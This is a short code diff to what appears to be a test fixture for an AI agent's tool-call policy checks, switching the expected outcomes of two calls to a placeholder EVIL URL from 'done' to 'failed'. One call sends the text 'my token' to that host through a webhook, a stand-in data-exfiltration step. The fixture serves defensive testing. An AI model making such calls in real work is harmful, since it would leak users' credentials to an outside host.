@@ -133,7 +133,7 @@ STORY = Story(
         Call(
             tool="call_webhook",
             args={"url": EVIL, "text": "my token"},
-            outcome="done",
+            outcome="failed",
             policies=("webhooks",),
             credential=False,
             message="has no resource",
@@ -143,7 +143,7 @@ STORY = Story(
         Call(
             tool="get_invoice",
             args={"url": EVIL},
-            outcome="done",
+            outcome="failed",
             policies=("read-orders",),
             credential=True,
             message="is no origin of shop",
